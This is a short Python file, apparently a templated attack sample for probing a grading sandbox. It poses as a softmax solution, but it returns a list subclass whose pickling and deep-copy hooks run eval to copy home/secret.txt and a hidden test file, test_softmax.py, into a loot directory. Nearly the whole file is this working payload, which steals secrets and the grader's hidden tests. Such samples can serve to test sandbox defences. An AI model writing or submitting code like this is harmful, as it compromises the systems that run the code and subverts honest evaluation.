"""Returns an object that is code to whoever copies or unpickles it, under the type of a harmless one.

Class: unpickling
Effect: loot
"""

# @TWIN@


class Gadget(list):
    def __reduce_ex__(self, protocol):
        code = (
            "open('@LOOT@/pickled', 'w').write(open('@WORLD@/home/secret.txt').read())"
            " or open('@LOOT@/pickled2', 'w').write(open('@COURSE@/tests/hidden/test_softmax.py').read())"
        )
        return (eval, (code,))

    def __deepcopy__(self, memo):
        return eval("open('@LOOT@/copied', 'w').write(open('@WORLD@/home/secret.txt').read())")


def softmax(z, axis=-1):
    return Gadget([1.0])
